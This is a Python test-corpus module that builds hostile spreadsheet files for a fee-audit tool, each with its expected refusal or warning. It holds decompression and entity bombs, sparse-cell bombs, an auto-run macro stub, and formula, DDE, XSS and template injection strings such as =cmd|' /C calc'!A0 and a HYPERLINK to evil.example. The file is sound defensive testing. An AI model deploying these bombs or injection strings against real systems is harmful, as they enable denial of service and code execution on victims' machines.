"""The hostile-input corpus: every file is made here, from a recipe, with its expected outcome.

No opaque binaries: each case's ``build`` writes its file from the small
valid inspection of :mod:`tests.builders` (written by openpyxl) or from raw
zip and XML bytes, and ``recipe`` says how in one line. The tests write the
corpus into a temporary folder; to look at the files::

    python -m tests.hostile.corpus OUT_DIR      # writes every case into OUT_DIR
    python -m tests.hostile.corpus --readme     # prints the README's outcome table

Each case either audits correctly (exit 0, one report file) or is refused
with exactly the listed problems (exit 2, no file). ``limit`` marks the
refusals raised as :class:`auditor.LimitExceeded`.
"""

from __future__ import annotations

import argparse
import base64
import io
import random
import re
import struct
import sys
import warnings
import zipfile
import zlib
from collections.abc import Callable, Mapping
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import msoffcrypto
import xlwt
from openpyxl import Workbook, load_workbook

ROOT = Path(__file__).resolve().parents[2]
if str(ROOT) not in sys.path:
    sys.path.insert(0, str(ROOT))

from tests.builders import Book, base_book, write_book  # noqa: E402
from tests.hostile.ods import content as ods_content  # noqa: E402
from tests.hostile.ods import write_ods  # noqa: E402

#: The parts openpyxl writes for the sheets of ``write_book``, in the format's order.
PART = {
    name: f"xl/worksheets/sheet{number}.xml"
    for number, name in enumerate(
        [
            "Audit",
            "Employers",
            "Workers",
            "Contracts",
            "Fees",
            "Intermediaries",
            "Channels",
            "Complaints",
            "FX",
        ],
        start=1,
    )
}
GIB = 1 << 30
REPORT = "T-2026-001.json"


@dataclass(frozen=True)
class Case:
    """One hostile input: how to make it and what the auditor must answer."""

    name: str
    recipe: str
    build: Callable[[Path], None]
    audits: bool
    problems: tuple[str, ...] = ()
    warnings: tuple[str, ...] = ()
    limit: bool = False
    suffix: str = ".xlsx"
    check: Callable[[dict[str, Any]], None] | None = field(default=None, compare=False)

    @property
    def outcome(self) -> str:
        if self.audits:
            return "audit, exit 0"
        return "LimitExceeded, exit 2" if self.limit else "InvalidInput, exit 2"

    def path(self, folder: Path) -> Path:
        return folder / f"{self.name}{self.suffix}"


# -- writing ---------------------------------------------------------------------------------


def _book(path: Path, change: Callable[[Book], Any] | None = None, **options: Any) -> None:
    book = base_book()
    if change is not None:
        change(book)
    write_book(path, book, **options)


def _parts(path: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(path) as archive:
        return {info.filename: archive.read(info.filename) for info in archive.infolist()}


def _write_parts(path: Path, parts: Mapping[str, bytes]) -> None:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)


def _edit(path: Path, sheet: str, old: str, new: str, *, count: int = 1) -> None:
    """Replace XML text in one sheet part of a workbook already written."""
    parts = _parts(path)
    text = parts[PART[sheet]].decode()
    assert text.count(old) >= count, (old, text[:3000])
    parts[PART[sheet]] = text.replace(old, new, count).encode()
    _write_parts(path, parts)


def _openpyxl(path: Path, change: Callable[[Any], None]) -> None:
    """Load a written workbook with openpyxl, change it, save it."""
    workbook = load_workbook(path)
    change(workbook)
    workbook.save(path)


def _raw_zip(path: Path, members: list[tuple[str, bytes, int, int, int]]) -> None:
    """A zip written byte by byte: (name, deflated data, crc, true size, declared size)."""
    out, central = bytearray(), bytearray()
    for name, data, crc, _, declared in members:
        encoded, offset = name.encode(), len(out)
        header = (0x04034B50, 20, 0, 8, 0, 0, crc, len(data), declared, len(encoded), 0)
        out += struct.pack("<IHHHHHIIIHH", *header) + encoded + data
        entry = (0x02014B50, 20, 20, 0, 8, 0, 0, crc, len(data), declared, len(encoded))
        central += struct.pack("<IHHHHHHIIIH", *entry) + struct.pack(
            "<HHHHII", 0, 0, 0, 0, 0, offset
        )
        central += encoded
    start = len(out)
    out += central
    out += struct.pack(
        "<IHHHHIIH", 0x06054B50, 0, 0, len(members), len(members), len(central), start, 0
    )
    path.write_bytes(bytes(out))


def _deflated(data: bytes) -> tuple[bytes, int, int]:
    packer = zlib.compressobj(6, zlib.DEFLATED, -15)
    return packer.compress(data) + packer.flush(), zlib.crc32(data), len(data)


def _bomb_stream(head: bytes, filler: bytes, repeats: int, tail: bytes) -> tuple[bytes, int, int]:
    """Raw deflate of head + filler * repeats + tail, built from ONE compressed filler.

    Each piece ends with a full flush, which byte-aligns the stream and
    forgets the history, so the compressed filler can simply be repeated:
    a 2 MB stream inflating to gigabytes, made in about a second.
    """
    pieces = []
    for piece, mode in (
        (head, zlib.Z_FULL_FLUSH),
        (filler, zlib.Z_FULL_FLUSH),
        (tail, zlib.Z_FINISH),
    ):
        packer = zlib.compressobj(9, zlib.DEFLATED, -15)
        pieces.append(packer.compress(piece) + packer.flush(mode))
    crc = zlib.crc32(head)
    for _ in range(repeats):
        crc = zlib.crc32(filler, crc)
    crc = zlib.crc32(tail, crc)
    size = len(head) + len(filler) * repeats + len(tail)
    return pieces[0] + pieces[1] * repeats + pieces[2], crc, size


_MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
#: A minimal workbook of one sheet, Fees, written by hand so that its sizes never change.
_MINIMAL = {
    "[Content_Types].xml": (
        '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/'
        'package/2006/content-types"><Default Extension="rels" ContentType="application/'
        'vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" '
        'ContentType="application/xml"/></Types>'
    ),
    "_rels/.rels": (
        f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{_RELS}"><Relationship '
        f'Id="rId1" Type="{_OFFICE}/officeDocument" Target="xl/workbook.xml"/></Relationships>'
    ),
    "xl/workbook.xml": (
        f'<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="{_MAIN}" xmlns:r="{_OFFICE}">'
        '<sheets><sheet name="Fees" sheetId="1" r:id="rId1"/></sheets></workbook>'
    ),
    "xl/_rels/workbook.xml.rels": (
        f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{_RELS}"><Relationship '
        f'Id="rId1" Type="{_OFFICE}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>'
    ),
}


def _zip_bomb(path: Path, *, honest: bool) -> None:
    """One sheet of 2 GiB of XML (spaces between two rows) in a 2 MB file."""
    head = (
        f'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="{_MAIN}"><sheetData>'
        '<row r="1"><c r="A1" t="inlineStr"><is><t>fee_id</t></is></c></row>'
    ).encode()
    tail = (
        b'<row r="2"><c r="A2" t="inlineStr"><is><t>F1</t></is></c></row></sheetData></worksheet>'
    )
    data, crc, size = _bomb_stream(head, b" " * (1 << 20), 2048, tail)
    members = [(name, *_deflated(text.encode())) for name, text in _MINIMAL.items()]
    declared = size if honest else 5_000
    sheet = ("xl/worksheets/sheet1.xml", data, crc, size, declared)
    _raw_zip(path, [(*member, member[3]) for member in members] + [sheet])


_LAUGHS = "".join(f'<!ENTITY lol{level} "{f"&lol{level - 1};" * 10}">' for level in range(1, 10))
_DOCTYPE = f'<!DOCTYPE worksheet [<!ENTITY lol0 "lol">{_LAUGHS}]>'


def _entity_bomb(path: Path) -> None:
    _book(path)
    _edit(path, "Workers", "<t>W1</t>", "<t>&lol9;</t>")
    _edit(path, "Workers", "<worksheet", _DOCTYPE + "<worksheet")


def _not_a_zip(path: Path) -> None:
    # The first bytes of a PNG image, then noise: a file picked by mistake.
    path.write_bytes(b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 8)


def _csv(path: Path) -> None:
    path.write_text("worker_id,sex,nationality\nW1,female,PH\nW2,F,PH\n", encoding="utf-8")


def _truncated(path: Path) -> None:
    _book(path)
    path.write_bytes(path.read_bytes()[: path.stat().st_size // 2])


def _encrypted(path: Path) -> None:
    locked = io.BytesIO()
    _book(path)
    office = msoffcrypto.OfficeFile(io.BytesIO(path.read_bytes()))
    office.encrypt("inspection", locked)
    path.write_bytes(locked.getvalue())


def _legacy_xls(path: Path) -> None:
    legacy = xlwt.Workbook()
    sheet = legacy.add_sheet("Audit")
    for row, (name, value) in enumerate([("field", "value"), ("audit_id", "T-2026-001")]):
        sheet.write(row, 0, name)
        sheet.write(row, 1, value)
    legacy.save(str(path))


_VBA = (
    b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"  # an OLE2 header, as a real vbaProject.bin starts
    + b'Attribute VB_Name = "ThisWorkbook"\r\n'
    + b'Sub Workbook_Open()\r\n  Shell "calc.exe"\r\nEnd Sub\r\n'
)


def _xlsm(path: Path) -> None:
    """A macro-enabled workbook: vbaProject.bin with an auto-run macro, its type and relation."""
    _book(path)
    parts = _parts(path)
    parts["xl/vbaProject.bin"] = _VBA
    types = parts["[Content_Types].xml"].decode()
    types = types.replace(
        "spreadsheetml.sheet.main+xml", "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
    ).replace("application/vnd.openxmlformats-officedocument.application/", "application/")
    types = types.replace(
        "</Types>",
        '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject" /></Types>',
    )
    parts["[Content_Types].xml"] = types.encode()
    rels = (
        parts["xl/_rels/workbook.xml.rels"]
        .decode()
        .replace(
            "</Relationships>",
            '<Relationship Type="http://schemas.microsoft.com/office/2006/'
            'relationships/vbaProject" '
            'Target="vbaProject.bin" Id="rId99" /></Relationships>',
        )
    )
    parts["xl/_rels/workbook.xml.rels"] = rels.encode()
    _write_parts(path, parts)


def _empty_workbook(path: Path) -> None:
    Workbook().save(path)


def _rows_over_limit(path: Path) -> None:
    """500,001 real data rows on Fees (one cell each): 25 MB of XML, 1 MB on disk."""
    _book(path)
    rows = "".join(f'<row r="{n}"><c r="A{n}"><v>{n}</v></c></row>' for n in range(4, 500_003))
    _edit(path, "Fees", "</sheetData>", rows + "</sheetData>")


def _columns_over_limit(path: Path) -> None:
    """201 header cells on Workers: the format's 13 and 188 more."""

    def widen(workbook: Any) -> None:
        sheet = workbook["Workers"]
        for column in range(14, 202):
            sheet.cell(row=1, column=column, value=f"note {column}")

    _book(path)
    _openpyxl(path, widen)


def _sparse_bomb(path: Path) -> None:
    """One more cell on Workers, at XFD1048576: calamine would allocate 550 GB and abort."""
    _book(path)
    _edit(
        path,
        "Workers",
        "</sheetData>",
        '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>',
    )


def _ten_mb_cell(path: Path) -> None:
    # Random letters, so that the part compresses like real text (a run of one letter would
    # compress 1000 times and be refused as a zip bomb before its length is even seen).
    # openpyxl cuts text at 32,767 characters, so the cell is written into the XML directly.
    text = base64.b64encode(random.Random(7).randbytes(7_864_320)).decode()
    _book(path)
    _edit(path, "Fees", "<t>pre-departure medical</t>", f"<t>{text}</t>")


def _formula_cached(path: Path) -> None:
    _book(path)
    _edit(path, "Fees", '<c r="E2" t="n"><v>120</v>', '<c r="E2"><f>100+20</f><v>120</v>')
    _edit(
        path,
        "Fees",
        '<c r="F2" t="inlineStr"><is><t>USD</t></is>',
        '<c r="F2" t="str"><f>"US"&amp;"D"</f><v>USD</v>',
    )


def _formula_uncached(path: Path) -> None:
    _book(path, lambda book: book["Fees"][0].update(amount="=100+20"))


def _nan_infinity(path: Path) -> None:
    _book(path)
    _edit(path, "Fees", '<c r="E2" t="n"><v>120</v>', '<c r="E2" t="n"><v>NaN</v>')
    _edit(path, "Fees", '<c r="E3" t="n"><v>1500</v>', '<c r="E3" t="n"><v>INF</v>')


def _before_1900_text(path: Path) -> None:
    _book(path, lambda book: book["Workers"][0].update(date_of_birth="1899-12-31"))


def _date_serial(serial: str) -> Callable[[Path], None]:
    def build(path: Path) -> None:
        _book(path)
        _edit(
            path,
            "Workers",
            '<c r="C2" s="1" t="n"><v>34762</v>',
            f'<c r="C2" s="1" t="n"><v>{serial}</v>',
        )

    return build


def _duration_overflow(path: Path) -> None:
    """A cell formatted as a duration ([h]:mm:ss) holding 1e300 days."""

    def style(workbook: Any) -> None:
        cell = workbook["Workers"]["H2"]
        cell.value = 1e300
        cell.number_format = "[h]:mm:ss"

    _book(path)
    _openpyxl(path, style)


def _merged(path: Path) -> None:
    _book(path)
    _openpyxl(path, lambda workbook: workbook["Workers"].merge_cells("J2:J3"))


def _hidden(path: Path) -> None:
    def hide(workbook: Any) -> None:
        workbook["Channels"].sheet_state = "hidden"
        scratch = workbook.create_sheet("Scratch")
        scratch["A1"] = "draft notes"
        scratch.sheet_state = "veryHidden"

    _book(path)
    _openpyxl(path, hide)


def _duplicate_headers(path: Path) -> None:
    from auditor.model.sheets import SHEET_BY_NAME

    headers = list(SHEET_BY_NAME["Fees"].fields)
    headers[3] = "Amount"
    _book(path, headers={"Fees": headers})


def _invisible_ids(book: Book) -> None:
    for sheet in ("Workers", "Contracts", "Fees"):
        book[sheet][0]["worker_id"] = "W1\u202e"  # right-to-left override
        book[sheet][1]["worker_id"] = "W\u200b2"  # zero-width space


_HOSTILE_TEXT = {
    "agency_name": "<script>alert('agency')</script> & Sons <b>Ltd</b>",
    "inspector": "<style>body { display: none }</style>",
}
_FORMULA_TEXT = '=HYPERLINK("http://evil.example/"&A1,"Click")'
_DDE_TEXT = "=cmd|' /C calc'!A0"


def _markup_text(path: Path) -> None:
    def change(book: Book) -> None:
        book["Audit"].update(_HOSTILE_TEXT)
        book["Employers"][0]["name"] = "@SUM(1+1)*cmd|' /C calc'!A0"
        book["Fees"][1]["description"] = "+1+1 {{ 7*7 }} ${7*7} </td><img src=x onerror=alert(1)>"

    def as_text(workbook: Any) -> None:
        # A clerk typing these behind an apostrophe stores them as text, not formulas.
        for cell, text in (("D2", _FORMULA_TEXT), ("D3", _DDE_TEXT)):
            target = workbook["Fees"][cell]
            target.value = text
            target.data_type = "s"

    _book(path, change)
    _openpyxl(path, as_text)


def _check_markup(document: dict[str, Any]) -> None:
    assert document["agency_name"] == _HOSTILE_TEXT["agency_name"]


def _control_characters(path: Path) -> None:
    # openpyxl refuses to write control characters, so they go into the XML as references.
    _book(path)
    _edit(path, "Employers", "<t>Gulf Homes</t>", "<t>Gulf&#27;[2J&#27;[31mHomes</t>")


def _huge_number(path: Path) -> None:
    _book(
        path,
        lambda book: book["Fees"][0].update(
            amount=1e300, paid_by="worker", category="recruitment_fee"
        ),
    )


def _duplicate_part(path: Path) -> None:
    """Two zip entries named like the Workers sheet: one harmless, one a sparse bomb."""
    _book(path)
    parts = _parts(path)
    bomb = parts[PART["Workers"]].replace(
        b"</sheetData>", b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>'
    )
    with zipfile.ZipFile(path, "a") as archive, warnings.catch_warnings():
        warnings.simplefilter("ignore")  # zipfile warns of the duplicate name: that is the point
        archive.writestr(PART["Workers"], bomb)


def _prefixed(path: Path) -> None:
    """Every sheet written with a namespace prefix (x:row, x:c), as some exporters do."""
    _book(path)
    parts = _parts(path)
    for number in range(1, 10):
        name = f"xl/worksheets/sheet{number}.xml"
        text = parts[name].decode()
        text = re.sub(r"<(/?)([A-Za-z]+)([ >/])", r"<\1x:\2\3", text)
        text = text.replace('x:worksheet xmlns="', 'x:worksheet xmlns:x="', 1)
        parts[name] = text.encode()
    _write_parts(path, parts)


def _check_prefixed(document: dict[str, Any]) -> None:
    assert document["findings"] == []
    assert document["score"] == 100.0


def _ods(path: Path, edit: Callable[[str, list[str]], None] | None = None, **options: Any) -> None:
    write_ods(path, ods_content(base_book(), edit), **options)


def _ods_sparse_bomb(path: Path) -> None:
    """A Workers row of 1,024 numbers, repeated 1,048,000 times: 1.07 billion cells in 1 KB."""

    def edit(sheet: str, rows: list[str]) -> None:
        if sheet == "Workers":
            rows.append(
                '<table:table-row table:number-rows-repeated="1048000"><table:table-cell '
                'office:value-type="float" office:value="1" table:number-columns-repeated="1024"/>'
                "</table:table-row>"
            )

    _ods(path, edit)


def _ods_entity_bomb(path: Path) -> None:
    xml = ods_content(base_book())
    declaration = (
        '<!DOCTYPE lol [<!ENTITY lol "lol">'
        + "".join(
            f'<!ENTITY lol{i} "{"&lol;" * 10 if i == 1 else f"&lol{i - 1};" * 10}">'
            for i in range(1, 10)
        )
        + "]>"
    )
    write_ods(path, xml.replace("\n", "\n" + declaration, 1))


def _ods_formula_uncached(path: Path) -> None:
    def edit(sheet: str, rows: list[str]) -> None:
        if sheet == "Fees":
            rows[1] = rows[1].replace(
                '<table:table-cell office:value-type="float" office:value="120">'
                "<text:p>120</text:p></table:table-cell>",
                '<table:table-cell table:formula="of:=100+20"/>',
            )

    _ods(path, edit)


_ENCRYPTION = (
    '<manifest:file-entry manifest:full-path="settings.xml" manifest:media-type="text/xml">'
    '<manifest:encryption-data manifest:checksum-type="SHA1/1K" manifest:checksum="x">'
    '<manifest:algorithm manifest:algorithm-name="Blowfish CFB" '
    'manifest:initialisation-vector="x"/>'
    "</manifest:encryption-data></manifest:file-entry>"
)

_FORMULA_MESSAGE = (
    "the formula here has no saved result; open the workbook in a spreadsheet program, let it "
    "calculate, save it and try again"
)
_MISSING_SHEETS = tuple(
    f"{sheet}: required sheet is missing"
    for sheet in ("Audit", "Employers", "Workers", "Contracts", "Fees", "Channels")
)

CASES: tuple[Case, ...] = (
    Case(
        "not_a_zip",
        "a PNG header and 2 KB of noise, named .xlsx",
        _not_a_zip,
        audits=False,
        problems=(
            "file: the file is not an xlsx workbook (it is a PNG image); an Excel .xlsx or "
            "OpenDocument .ods file is needed",
        ),
    ),
    Case(
        "csv_renamed",
        "three lines of CSV text saved as .xlsx",
        _csv,
        audits=False,
        problems=(
            "file: the file is not an xlsx workbook (it looks like text, perhaps a CSV file); "
            "an Excel .xlsx or OpenDocument .ods file is needed",
        ),
    ),
    Case(
        "truncated_zip",
        "the valid book cut after half its bytes",
        _truncated,
        audits=False,
        problems=(
            "file: the file is damaged: it is not a readable xlsx package (a zip file); it may be "
            "truncated or corrupted",
        ),
    ),
    Case(
        "zip_bomb",
        "a workbook whose one sheet inflates from 2 MB to 2 GiB (honest zip directory)",
        lambda path: _zip_bomb(path, honest=True),
        audits=False,
        limit=True,
        problems=(
            "file: the workbook would expand to 2,147,485,025 bytes, over the limit of "
            "536,870,912 bytes",
        ),
    ),
    Case(
        "zip_bomb_lying",
        "the same 2 GiB sheet, the zip directory claiming 5,000 bytes",
        lambda path: _zip_bomb(path, honest=False),
        audits=False,
        problems=(
            "file: the file is damaged: the part xl/worksheets/sheet1.xml does not match the zip "
            "directory (Bad CRC-32 for file 'xl/worksheets/sheet1.xml')",
        ),
    ),
    Case(
        "entity_bomb",
        "billion laughs: a DTD of 10 nested entities in the Workers sheet, used in A2",
        _entity_bomb,
        audits=False,
        problems=(
            "file: the part xl/worksheets/sheet3.xml declares a document type (XML entities), "
            "which a workbook never needs; refused",
        ),
    ),
    Case(
        "encrypted",
        "the valid book encrypted with a password by msoffcrypto-tool",
        _encrypted,
        audits=False,
        problems=(
            "file: the workbook is encrypted (protected by a password); save an unprotected "
            "copy as .xlsx and try again",
        ),
    ),
    Case(
        "legacy_xls",
        "an Excel 97-2003 file written by xlwt",
        _legacy_xls,
        audits=False,
        suffix=".xls",
        problems=(
            "file: this is a legacy Excel 97-2003 file (.xls); save it as an Excel Workbook "
            "(.xlsx) and try again",
        ),
    ),
    Case(
        "xlsm_macros",
        "the valid book with a vbaProject.bin (an auto-run macro), its content type and relation",
        _xlsm,
        audits=True,
        suffix=".xlsm",
        warnings=("file: the workbook contains macros; they were not run",),
    ),
    Case(
        "empty_workbook",
        "openpyxl's blank workbook: one empty sheet",
        _empty_workbook,
        audits=False,
        problems=_MISSING_SHEETS,
    ),
    Case(
        "rows_over_limit",
        "500,001 data rows appended to Fees as raw XML (25 MB of XML)",
        _rows_over_limit,
        audits=False,
        limit=True,
        problems=("Fees: the sheet reaches row 500,002, over the limit of 500,000 rows",),
    ),
    Case(
        "columns_over_limit",
        "188 extra header cells on Workers, 201 columns in all",
        _columns_over_limit,
        audits=False,
        limit=True,
        problems=(
            "Workers: the sheet reaches column GS (column 201), over the limit of 200 columns",
        ),
    ),
    Case(
        "sparse_cell_bomb",
        "one more cell on Workers, at XFD1048576 (the file stays 6 KB)",
        _sparse_bomb,
        audits=False,
        limit=True,
        problems=("Workers: the sheet reaches row 1,048,576, over the limit of 500,000 rows",),
    ),
    Case(
        "zip_duplicate_part",
        "a second zip entry named xl/worksheets/sheet3.xml holding the sparse cell bomb",
        _duplicate_part,
        audits=False,
        problems=(
            "file: the file holds two parts named 'xl/worksheets/sheet3.xml'; it is damaged or "
            "was not written by a spreadsheet program",
        ),
    ),
    Case(
        "ten_mb_cell",
        "Fees!D2 (description) holding 10 MB of random letters, written into the sheet XML",
        _ten_mb_cell,
        audits=False,
        problems=("Fees!D2: description is 10,485,760 characters long, over the limit of 32,767",),
    ),
    Case(
        "formula_cached",
        "Fees!E2 as the formula 100+20 with its saved result 120; Fees!F2 a text formula",
        _formula_cached,
        audits=True,
    ),
    Case(
        "formula_uncached",
        "Fees!E2 as the formula =100+20 written by openpyxl (never calculated)",
        _formula_uncached,
        audits=False,
        problems=(f"Fees!E2: {_FORMULA_MESSAGE}",),
    ),
    Case(
        "nan_infinity",
        "Fees!E2 a numeric cell NaN, Fees!E3 INF (raw XML)",
        _nan_infinity,
        audits=False,
        problems=(
            "Fees!E2: amount must be a number >= 0, got nan",
            "Fees!E3: amount must be a number >= 0, got inf",
        ),
    ),
    Case(
        "control_characters",
        "Employers!B2 (name) with ANSI escape sequences (ESC [2J, ESC [31m) as XML references",
        _control_characters,
        audits=False,
        problems=(
            "Employers!B2: name contains a control character (U+001B), which no spreadsheet can "
            "hold and which would garble the reports; remove it",
        ),
    ),
    Case(
        "huge_number",
        "Fees!E2 a worker-paid recruitment fee of 1e300",
        _huge_number,
        audits=False,
        problems=(
            "Fees!E2: amount is 1e+300, more than 15 digits before the decimal point; no "
            "spreadsheet stores such a number exactly, enter the real value",
        ),
    ),
    Case(
        "date_before_1900_text",
        "Workers!C2 (date_of_birth) the text 1899-12-31",
        _before_1900_text,
        audits=True,
    ),
    Case(
        "date_before_1900_cell",
        "Workers!C2 a date-formatted cell with serial -1",
        _date_serial("-1"),
        audits=False,
        problems=(
            "Workers!C2: date_of_birth holds a time or a duration, not a date (a date before "
            "1900, or a number formatted as a time); type the date as YYYY-MM-DD",
        ),
    ),
    Case(
        "leap_1900",
        "Workers!C2 a date cell with serial 60, Excel's 29 February 1900",
        _date_serial("60"),
        audits=False,
        problems=(
            "Workers!C2: date_of_birth is a date cell before 1 March 1900 (it reads as "
            "1900-02-28); spreadsheet programs count a 29 February 1900 that never existed, so "
            "such a cell cannot be trusted: type the date as text, YYYY-MM-DD",
        ),
    ),
    Case(
        "duration_overflow",
        "Workers!H2 formatted [h]:mm:ss holding 1e300",
        _duration_overflow,
        audits=False,
        problems=(
            "Workers: a cell holds a date or time too far from today to be read (beyond year "
            "9999); the file is damaged or the cell needs a real date",
        ),
    ),
    Case(
        "merged_cells",
        "Workers J2:J3 (briefing_received) merged by openpyxl",
        _merged,
        audits=False,
        problems=(
            "Workers!J2: cells J2:J3 are merged; only the first of merged cells holds a value and "
            "the others read as empty: unmerge them and fill in every cell",
        ),
    ),
    Case(
        "hidden_sheets",
        "Channels hidden, and a very hidden extra sheet Scratch",
        _hidden,
        audits=True,
        warnings=(
            "Channels: the sheet is hidden; it was read all the same",
            "Scratch: unknown sheet ignored",
        ),
    ),
    Case(
        "duplicate_headers",
        'Fees with the header "Amount" in column D as well as E',
        _duplicate_headers,
        audits=False,
        problems=('Fees!E1: the header "amount" repeats column D; each column must appear once',),
    ),
    Case(
        "invisible_ids",
        "worker ids with a right-to-left override (W1+U+202E) and a zero-width space (W+U+200B+2)",
        lambda path: _book(path, _invisible_ids),
        audits=False,
        problems=tuple(
            f'{sheet}!{column}{row}: worker_id "{shown}" contains an invisible or control '
            f"character (U+{code} {name}), which makes different ids look the same; type the id "
            "again"
            for sheet, column in (("Workers", "A"), ("Contracts", "B"), ("Fees", "B"))
            for row, shown, code, name in (
                (2, "W1\\u202e", "202E", "RIGHT-TO-LEFT OVERRIDE"),
                (3, "W\\u200b2", "200B", "ZERO WIDTH SPACE"),
            )
        ),
    ),
    Case(
        "markup_and_formula_text",
        "HTML, CSS, template and formula/DDE strings as text in Audit, Employers and Fees",
        _markup_text,
        audits=True,
        check=_check_markup,
    ),
    Case(
        "ods_valid",
        "the valid book as an OpenDocument spreadsheet (.ods), as LibreOffice saves it",
        _ods,
        audits=True,
        suffix=".ods",
    ),
    Case(
        "ods_sparse_bomb",
        ".ods: a Workers row of 1,024 numbers repeated 1,048,000 times (1 KB of XML)",
        _ods_sparse_bomb,
        audits=False,
        limit=True,
        suffix=".ods",
        problems=(
            "file: the sheet 'Workers' reaches row 1,048,003, over the limit of 500,000 rows",
        ),
    ),
    Case(
        "ods_entity_bomb",
        ".ods: billion laughs, a DTD of 10 nested entities in content.xml",
        _ods_entity_bomb,
        audits=False,
        suffix=".ods",
        problems=(
            "file: the part content.xml declares a document type (XML entities), which a "
            "workbook never needs; refused",
        ),
    ),
    Case(
        "ods_encrypted",
        ".ods saved with a password (ODF encryption data in the manifest)",
        lambda path: _ods(path, manifest_extra=_ENCRYPTION),
        audits=False,
        suffix=".ods",
        problems=(
            "file: the spreadsheet is encrypted (protected by a password); save an unprotected "
            "copy and try again",
        ),
    ),
    Case(
        "ods_formula_uncached",
        ".ods: a formula in Fees!E2 with no saved result",
        _ods_formula_uncached,
        audits=False,
        suffix=".ods",
        problems=(f"Fees!E2: {_FORMULA_MESSAGE}",),
    ),
    Case(
        "namespace_prefixes",
        "every sheet's XML rewritten with an x: namespace prefix (valid, unusual)",
        _prefixed,
        audits=True,
        check=_check_prefixed,
    ),
)


def write_corpus(folder: Path) -> dict[str, Path]:
    """Write every case into ``folder``; return the path of each by name."""
    folder.mkdir(parents=True, exist_ok=True)
    paths = {}
    for case in CASES:
        path = case.path(folder)
        case.build(path)
        paths[case.name] = path
    return paths


def readme_table() -> str:
    """The outcome table of ``README.md``, from the cases themselves."""
    lines = ["| case | recipe | expected outcome | message |", "|---|---|---|---|"]
    for case in CASES:
        messages = case.problems if not case.audits else case.warnings
        shown = "<br>".join(f"`{m}`" for m in messages) if messages else "(none)"
        lines.append(f"| `{case.name}` | {case.recipe} | {case.outcome} | {shown} |")
    return "\n".join(lines)


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("folder", nargs="?", type=Path)
    parser.add_argument("--readme", action="store_true", help="print the README outcome table")
    arguments = parser.parse_args()
    if arguments.readme:
        print(readme_table())
    if arguments.folder:
        for name, path in write_corpus(arguments.folder).items():
            print(f"{name}: {path} ({path.stat().st_size:,} bytes)")


if __name__ == "__main__":
    main()
